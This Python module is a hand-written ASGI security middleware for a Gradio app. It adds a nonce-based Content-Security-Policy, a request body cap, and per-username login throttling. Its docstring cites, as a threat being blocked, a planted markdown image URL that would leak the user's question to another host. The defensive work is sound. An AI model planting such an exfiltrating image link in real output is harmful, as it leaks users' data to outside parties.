"""HTTP guard: the protections Gradio's server lacks, as one small ASGI middleware around its FastAPI app.

- **Content-Security-Policy on every response.** Only the app's own scripts run: the inline `<script>` tags of
  Gradio's page template get a fresh nonce per page, and nothing else inline (markup smuggled in through a paper
  or a model's answer, an `onerror=` attribute) may run. Images only from this server or `data:` URLs, and
  fetches only to this server, so a planted `![x](http://elsewhere/?q=...)` can neither load nor leak the
  question. Gradio's page needs inline styles (`style-src 'unsafe-inline'`); styles cannot run code.
- **Request body cap.** A body larger than `max_body` bytes (by Content-Length, or counted as it streams in) is
  refused with 413 before the app reads it, so a 100 MB "question" costs nothing. File uploads have their own cap
  (Gradio's `max_file_size`), so the upload route is exempt here.
- **Login throttling.** After `max_failures` failed logins for one user name within `window` seconds, `/login`
  answers 429 with Retry-After for that name until the window has passed, so passwords cannot be tried hundreds
  per second. Counted per user name, not per address: the server trusts `X-Forwarded-For` from loopback (uvicorn's
  default), so an address can be made up, a user name under attack cannot. The price: an attacker can keep that
  one name locked for a minute at a time (the README says so).

Written by hand because Gradio has no setting for any of the three; it is a pure ASGI middleware (not
Starlette's BaseHTTPMiddleware) so that Gradio's streamed (SSE) responses pass through untouched.
"""

from __future__ import annotations

import re
import secrets
import threading
import time
from collections import defaultdict, deque
from typing import Any, Awaitable, Callable

Scope = dict[str, Any]
Message = dict[str, Any]
ASGIApp = Callable[[Scope, Callable[[], Awaitable[Message]], Callable[[Message], Awaitable[None]]], Awaitable[None]]

MAX_BODY = 4 * 1024 * 1024  # a question is cut to 2,000 characters; 4 MB leaves room for a long history
_SCRIPT_TAG = re.compile(rb"<script(?=[\s>])")


def policy(nonce: str | None) -> str:
    # 'unsafe-eval': Gradio 6's HTML component compiles its template with `new Function`. It lets the app's own
    # scripts evaluate strings; it does not let markup in the page run (that would need 'unsafe-inline').
    scripts = f"'self' 'unsafe-eval' 'nonce-{nonce}'" if nonce else "'self' 'unsafe-eval'"
    return ("default-src 'self'; "
            f"script-src {scripts}; "
            "style-src 'self' 'unsafe-inline'; "
            "img-src 'self' data: blob:; "
            "font-src 'self' data:; "
            "media-src 'self' data: blob:; "
            "connect-src 'self'; "
            "worker-src 'self' blob:; "
            "object-src 'none'; base-uri 'self'; form-action 'self'; frame-ancestors 'self'")


class Guard:
    """Wrap an ASGI app with the policy, the body cap and the login throttle (see the module docstring)."""

    def __init__(self, app: ASGIApp, max_body: int = MAX_BODY, max_failures: int = 5, window: float = 60.0,
                 exempt: tuple[str, ...] = ("/gradio_api/upload",)) -> None:
        self.app, self.max_body, self.exempt = app, max_body, exempt
        self.max_failures, self.window = max_failures, window
        self._failures: dict[str, deque[float]] = defaultdict(deque)
        self._lock = threading.Lock()

    async def __call__(self, scope: Scope, receive: Callable[[], Awaitable[Message]],
                       send: Callable[[Message], Awaitable[None]]) -> None:
        if scope["type"] != "http":
            await self.app(scope, receive, send)
            return
        path = scope.get("path", "")
        if not path.startswith(self.exempt):
            declared = dict(scope.get("headers") or []).get(b"content-length")
            if declared is not None and declared.isdigit() and int(declared) > self.max_body:
                await _plain(send, 413, f"Request too large (over {self.max_body // 1024 // 1024} MB).")
                return
            receive = self._capped(receive)
        login = scope.get("method") == "POST" and path.rstrip("/").endswith("/login")
        client = ""
        if login:
            client, receive = await _login_name(receive)
            wait = self._locked_for(client)
            if wait > 0:
                await _plain(send, 429, f"Too many failed logins; try again in {wait:.0f} s.",
                             [(b"retry-after", str(int(wait) + 1).encode())])
                return
        nonce = secrets.token_urlsafe(16)
        state: dict[str, Any] = {}

        async def send_wrapped(message: Message) -> None:
            if message["type"] == "http.response.start":
                headers = [(k, v) for k, v in message.get("headers", []) if k.lower() != b"content-security-policy"]
                html = any(k.lower() == b"content-type" and v.startswith(b"text/html") for k, v in headers)
                if login and message["status"] >= 400:
                    self._failed(client)
                headers.append((b"content-security-policy", policy(nonce if html else None).encode()))
                headers.append((b"x-content-type-options", b"nosniff"))
                headers.append((b"referrer-policy", b"no-referrer"))
                if html:  # the body grows by the nonces: hold the start until the whole page is known
                    state["start"] = {**message, "headers": [(k, v) for k, v in headers
                                                             if k.lower() != b"content-length"]}
                    state["body"] = b""
                    return
                message = {**message, "headers": headers}
            elif message["type"] == "http.response.body" and "start" in state:
                state["body"] += message.get("body", b"")
                if message.get("more_body"):
                    return
                body = _SCRIPT_TAG.sub(b'<script nonce="' + nonce.encode() + b'"', state["body"])
                start = state.pop("start")
                start["headers"].append((b"content-length", str(len(body)).encode()))
                await send(start)
                message = {"type": "http.response.body", "body": body}
            await send(message)

        await self.app(scope, receive, send_wrapped)

    def _capped(self, receive: Callable[[], Awaitable[Message]]) -> Callable[[], Awaitable[Message]]:
        seen = 0

        async def wrapped() -> Message:
            nonlocal seen
            message = await receive()
            if message["type"] == "http.request":
                seen += len(message.get("body", b""))
                if seen > self.max_body:  # a streamed body past the cap: the app sees the client go away
                    return {"type": "http.disconnect"}
            return message

        return wrapped

    def _locked_for(self, client: str) -> float:
        with self._lock:
            times = self._failures[client]
            now = time.monotonic()
            while times and now - times[0] > self.window:
                times.popleft()
            if len(times) < self.max_failures:
                return 0.0
            return self.window - (now - times[0])

    def _failed(self, client: str) -> None:
        with self._lock:
            self._failures[client].append(time.monotonic())


async def _login_name(receive: Callable[[], Awaitable[Message]]) -> tuple[str, Callable[[], Awaitable[Message]]]:
    """The user name of a login form (read from the body, which is then handed on unchanged to the app)."""
    from urllib.parse import parse_qs

    chunks, more = [], True
    while more:
        message = await receive()
        if message["type"] != "http.request":
            break
        chunks.append(message.get("body", b""))
        more = message.get("more_body", False)
    body = b"".join(chunks)
    try:
        name = parse_qs(body.decode("utf-8", "replace")).get("username", [""])[0].strip().casefold()
    except ValueError:
        name = ""
    sent = False

    async def replay() -> Message:
        nonlocal sent
        if not sent:
            sent = True
            return {"type": "http.request", "body": body, "more_body": False}
        return await receive()

    return name, replay


async def _plain(send: Callable[[Message], Awaitable[None]], status: int, text: str,
                 extra: list[tuple[bytes, bytes]] | None = None) -> None:
    body = text.encode()
    await send({"type": "http.response.start", "status": status,
                "headers": [(b"content-type", b"text/plain; charset=utf-8"),
                            (b"content-length", str(len(body)).encode()),
                            (b"content-security-policy", policy(None).encode()),
                            (b"x-content-type-options", b"nosniff"), (b"referrer-policy", b"no-referrer"),
                            *(extra or [])]})
    await send({"type": "http.response.body", "body": body})
